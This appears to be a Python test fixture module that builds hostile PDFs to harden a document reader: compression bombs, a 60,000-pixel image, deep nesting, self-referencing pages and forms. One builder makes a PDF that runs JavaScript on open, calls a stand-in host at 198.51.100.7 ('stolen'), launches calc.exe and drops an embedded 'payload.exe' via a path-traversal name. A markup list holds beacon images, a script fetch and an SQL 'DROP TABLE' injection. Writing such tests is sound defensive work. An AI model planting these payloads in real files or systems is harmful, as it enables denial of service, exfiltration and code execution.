"""PDFs made to do harm, of the kinds that are met in the wild; each is small on disk."""

import zlib
from pathlib import Path

from tests import pdfs

SAID = "The monthly rent is $25,000, due on the first day of each month of the term."
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_SHOWN = b"BT /F1 11 Tf 72 700 Td (%s) Tj ET" % SAID.encode("ascii")


def _page(extra: bytes = b"", *, box: bytes = b"0 0 612 792", contents: bytes = b"5 0 R") -> bytes:
    resources = b"/Resources<</Font<</F1 4 0 R>>>>"
    head = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents %s" % (box, contents)
    return head + resources + extra + b">>"


def _stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), head, content)


def _file(
    path: Path,
    *more: bytes,
    catalog: bytes = b"",
    page: bytes | None = None,
    content: bytes | None = None,
) -> Path:
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        _TREE,
        page or _page(),
        _FONT,
        content or _stream(_SHOWN),
        *more,
    ]
    path.write_bytes(pdfs.assemble(objects))
    return path


def _inflating(size: int, fill: bytes = b" ") -> bytes:
    """Bytes that inflate to ``size`` bytes of ``fill``, and then to what is shown."""
    packer = zlib.compressobj(9)
    head = packer.compress(fill * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(fill * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + again * (size // 2**20) + packer.compress(_SHOWN) + packer.flush()


def bomb(path: Path, *, size: int = 3 * 1024**3) -> Path:
    """A page whose content inflates to three gigabytes, packed twice."""
    packed = zlib.compress(_inflating(size), 9)
    return _file(path, content=_stream(packed, b"/Filter[/FlateDecode/FlateDecode]"))


def picture_bomb(path: Path) -> Path:
    """A picture of 60,000 by 60,000 dots on an ordinary page."""
    packed = zlib.compress(_inflating(60_000 * 60_000 // 100, b"\xff"), 9)
    head = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
    picture = _stream(packed, head + b"/ColorSpace/DeviceGray/Filter[/FlateDecode/FlateDecode]")
    page = _page().replace(b"/Resources<<", b"/Resources<</XObject<</Im 6 0 R>>")
    drawn = _stream(b"q 500 0 0 500 50 50 cm /Im Do Q " + _SHOWN)
    return _file(path, picture, page=page, content=drawn)


def million_objects(path: Path, *, count: int = 1_000_000) -> Path:
    return _file(path, *[b"<</A %d>>" % number for number in range(count)])


def deep_arrays(path: Path, *, depth: int = 200_000) -> Path:
    return _file(path, page=_page(b"/Deep" + b"[" * depth + b"]" * depth))


def deep_forms(path: Path) -> Path:
    """A drawing that draws itself."""
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</Fm 6 0 R>>>>"
    form = _stream(b"/Fm Do /Fm Do", head)
    page = _page().replace(b"/Resources<<", b"/Resources<</XObject<</Fm 6 0 R>>")
    return _file(path, form, page=page, content=_stream(b"/Fm Do " + _SHOWN))


def page_loop(path: Path) -> Path:
    """A page tree that is its own child."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]
    path.write_bytes(pdfs.assemble(objects))
    return path


def many_pages(path: Path, *, count: int = 1_000_000) -> Path:
    """A tree that says it has a million pages, and has one."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count]
    path.write_bytes(pdfs.assemble([*objects, _page(), _FONT, _stream(_SHOWN)]))
    return path


def huge_page(path: Path) -> Path:
    return _file(path, page=_page(box=b"0 0 14400000 14400000"))


def huge_unit(path: Path) -> Path:
    """An ordinary page whose unit is a kilometre."""
    return _file(path, page=_page(b"/UserUnit 2834645"))


SCRIPT = b"app.launchURL('http://198.51.100.7/stolen'); this.exportDataObject('payload.exe')"
PAYLOAD = b"MZ zanzibarquux payload"


def script_and_attachment(path: Path) -> Path:
    """Runs a script, launches a program and calls home when opened; holds another file."""
    catalog = (
        b"/OpenAction 6 0 R/AA<</WC 6 0 R>>/Names<</JavaScript<</Names[(x) 6 0 R]>>"
        b"/EmbeddedFiles<</Names[(payload.exe) 7 0 R]>>>>"
    )
    action = b"<</S/JavaScript/JS(%s)/Next<</S/Launch/F(calc.exe)>>>>" % SCRIPT
    attached = b"<</Type/Filespec/F(../../payload.exe)/EF<</F 8 0 R>>>>"
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[72 690 400 720]/A<</S/URI/URI(%s)>>>>]" % (
        b"http://198.51.100.7/clicked"
    )
    return _file(
        path,
        action,
        attached,
        _stream(PAYLOAD, b"/Type/EmbeddedFile"),
        catalog=catalog,
        page=_page(link),
    )


MARKUP = (
    "Read ![logo](http://198.51.100.7/beacon.png) and <img src='http://198.51.100.7/i.png'>.",
    "<script>fetch('http://198.51.100.7/s')</script> <iframe src='http://198.51.100.7/f'></iframe>",
    "[click](http://198.51.100.7/c) :material/delete: $1.2M and $3.4M <style>@import 'http://x'",
    "The rent is $25,000'); DROP TABLE document; -- NEAR(rent OR * AND \"",
)


def markup(path: Path) -> Path:
    """A page whose text is Markdown, HTML, SQL and the syntax of searches."""
    lines = [pdfs.Line(text, top=100 + 30 * place, size=8) for place, text in enumerate(MARKUP)]
    return pdfs.pages(path, [lines])
